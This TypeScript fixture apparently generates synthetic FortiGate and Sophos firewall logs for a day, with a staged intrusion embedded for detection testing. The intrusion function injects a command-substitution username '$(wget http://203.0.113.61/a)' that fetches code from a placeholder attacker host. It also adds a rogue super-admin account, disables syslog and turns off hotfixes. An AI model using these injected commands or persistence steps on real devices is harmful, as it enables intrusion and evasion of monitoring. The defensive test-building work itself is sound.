/** Lines of a small fleet over a day, written by us after the vendors' formats: ordinary traffic, and an intrusion inside. */
export interface SentLine {
  /** When it is sent, ms since the epoch. */
  readonly at: number;
  readonly text: string;
}

const hour = 3_600_000;
const minute = 60_000;

/** Sent in the day before `now`; the same `now` gives the same lines. */
export function fleetLines(now: number): readonly SentLine[] {
  const start = now - 24 * hour;
  const random = generator(7);
  const lines: SentLine[] = [];
  const add = (at: number, make: (at: number) => string) => lines.push({ at, text: make(at) });
  for (let at = start; at < now; at += minute) {
    const hourOfDay = new Date(at).getUTCHours();
    const busy = 1 + Math.round(3 * Math.max(0, Math.sin(((hourOfDay - 5) / 24) * 2 * Math.PI)));
    for (let count = 0; count < busy; count += 1) {
      add(at + random() * minute, (time) => traffic("hq-fw-1", "FG100F0000000001", time, random));
      if (random() < 0.5)
        add(at + random() * minute, (time) => traffic("branch-kyoto", "FGT60F0000000002", time, random));
      if (random() < 0.6)
        add(at + random() * minute, (time) => sophosTraffic("xgs-clinic", "X21000000000003", time, random));
    }
    if (random() < 0.04)
      add(at, (time) => signIn("hq-fw-1", "FG100F0000000001", time, "10.0.0.5", "maria.berg"));
    if (random() < 0.05) add(at, (time) => web("hq-fw-1", "FG100F0000000001", time, random));
    if (at < now - 5 * hour && random() < 0.8)
      add(at, (time) => traffic("warehouse-fw", "FGT40F0000000004", time, random));
    if (random() < 0.06)
      add(
        at,
        (time) => `<134>${new Date(time).toISOString()} nas-backup smbd[411]: session opened by backup`,
      );
  }
  intrusion(now, add);
  return lines.filter(({ at }) => at < now).sort((a, b) => a.at - b.at);
}

function intrusion(now: number, add: (at: number, make: (at: number) => string) => void): void {
  const from = now - 3 * hour;
  for (let count = 0; count < 14; count += 1)
    add(from + count * 20_000, (time) =>
      failedVpn("hq-fw-1", "FG100F0000000001", time, "203.0.113.61", "$(wget http://203.0.113.61/a)"),
    );
  add(from + 9 * minute, (time) => signIn("hq-fw-1", "FG100F0000000001", time, "203.0.113.61", "admin"));
  add(from + 11 * minute, (time) =>
    configured(
      "hq-fw-1",
      "FG100F0000000001",
      time,
      "jsconsole(127.0.0.1)",
      "Add",
      "system.admin",
      "forticloud-tech",
    ),
  );
  add(from + 14 * minute, (time) =>
    configured(
      "hq-fw-1",
      "FG100F0000000001",
      time,
      "jsconsole(127.0.0.1)",
      "Edit",
      "log.syslogd.setting",
      "",
      "status[enable->disable]",
    ),
  );
  add(now - 50 * minute, (time) =>
    sophosEvent(
      "xgs-clinic",
      "X21000000000003",
      time,
      "203.0.113.61",
      "cybersupport",
      "User cybersupport logged in successfully to Web Admin Console",
    ),
  );
  add(now - 46 * minute, (time) =>
    sophosEvent(
      "xgs-clinic",
      "X21000000000003",
      time,
      "203.0.113.61",
      "cybersupport",
      "Automatic installation of hotfixes was disabled by cybersupport",
    ),
  );
}

type Random = () => number;

function stamp(time: number): string {
  const iso = new Date(time).toISOString();
  return `date=${iso.slice(0, 10)} time=${iso.slice(11, 19)}`;
}

function fortigate(name: string, serial: string, time: number, rest: string): string {
  return `<189>${stamp(time)} devname="${name}" devid="${serial}" eventtime=${Math.floor(time)}000000 tz="+0000" ${rest}`;
}

function traffic(name: string, serial: string, time: number, random: Random): string {
  const blocked = random() < 0.12;
  return fortigate(
    name,
    serial,
    time,
    `logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" srcip=10.${pick(random, 4)}.${pick(random, 12)}.${pick(random, 250)} srcport=${1_024 + pick(random, 60_000)} srcintf="port2" srcintfrole="lan" dstip=${blocked ? "198.51.100" : "192.0.2"}.${pick(random, 40)} dstport=${[443, 443, 443, 53, 80, 22, 993][pick(random, 7)]} dstintf="wan1" dstintfrole="wan" sessionid=${pick(random, 1_000_000)} proto=6 action="${blocked ? "deny" : "accept"}" policyid=${pick(random, 20)} service="HTTPS" user="${["maria.berg", "k.tanaka", "s.okada", "j.smith"][pick(random, 4)]}" duration=${pick(random, 300)} sentbyte=${pick(random, 90_000)} rcvdbyte=${pick(random, 900_000)}`,
  );
}

function web(name: string, serial: string, time: number, random: Random): string {
  return fortigate(
    name,
    serial,
    time,
    `logid="0317013312" type="utm" subtype="webfilter" eventtype="ftgd_allow" level="notice" vd="root" policyid=1 sessionid=${pick(random, 1_000_000)} user="k.tanaka" srcip=10.1.2.${pick(random, 250)} srcport=${1_024 + pick(random, 60_000)} dstip=192.0.2.${pick(random, 40)} dstport=443 proto=6 service="HTTPS" hostname="www.example.com" action="passthrough" url="/articles/${pick(random, 900)}" msg="URL belongs to an allowed category in policy"`,
  );
}

function signIn(name: string, serial: string, time: number, from: string, user: string): string {
  return fortigate(
    name,
    serial,
    time,
    `logid="0100032001" type="event" subtype="system" level="information" vd="root" logdesc="Admin login successful" sn="9" user="${user}" ui="https(${from})" method="https" srcip=${from} dstip=198.51.100.1 action="login" status="success" reason="none" msg="Administrator ${user} logged in successfully from https(${from})"`,
  );
}

function failedVpn(name: string, serial: string, time: number, from: string, user: string): string {
  return fortigate(
    name,
    serial,
    time,
    `logid="0101039426" type="event" subtype="vpn" level="alert" vd="root" logdesc="SSL VPN login fail" action="ssl-login-fail" tunneltype="ssl-web" remip=${from} user="${user}" reason="sslvpn_login_unknown_user" msg="SSL user failed to logged in"`,
  );
}

function configured(
  name: string,
  serial: string,
  time: number,
  ui: string,
  action: string,
  path: string,
  object: string,
  attribute = "accprofile[super_admin]",
): string {
  return fortigate(
    name,
    serial,
    time,
    `logid="0100044547" type="event" subtype="system" level="information" vd="root" logdesc="Object attribute configured" user="admin" ui="${ui}" action="${action}" cfgpath="${path}" cfgobj="${object}" cfgattr="${attribute}" msg="${action} ${path}"`,
  );
}

function sophosTraffic(name: string, serial: string, time: number, random: Random): string {
  const denied = random() < 0.15;
  return `<30>device_name="${name}" timestamp="${new Date(time).toISOString().slice(0, 19)}+0000" device_model="XGS2100" device_serial_id="${serial}" log_id="010101600001" log_type="Firewall" log_component="Firewall Rule" log_subtype="${denied ? "Denied" : "Allowed"}" log_version=1 severity="Information" fw_rule_id="${pick(random, 30)}" fw_rule_name="LAN to WAN" src_ip="10.20.0.${pick(random, 120)}" dst_ip="192.0.2.${pick(random, 60)}" protocol="TCP" src_port=${1_024 + pick(random, 60_000)} dst_port=${[443, 443, 80, 25][pick(random, 4)]} bytes_sent=${pick(random, 90_000)} bytes_received=${pick(random, 900_000)} con_event="Stop"`;
}

function sophosEvent(
  name: string,
  serial: string,
  time: number,
  from: string,
  user: string,
  message: string,
): string {
  const iso = new Date(time).toISOString();
  return `<30>device="SFW" date=${iso.slice(0, 10)} time=${iso.slice(11, 19)} timezone="UTC" device_name="${name}" device_id=${serial} log_id=062009617502 log_type="Event" log_component="GUI" log_subtype="Admin" status="Successful" priority=Notice user_name="${user}" src_ip=${from} message="${message}"`;
}

const pick = (random: Random, below: number) => Math.floor(random() * below);

/** mulberry32: small, seeded, good enough to vary lines. */
function generator(seed: number): Random {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}
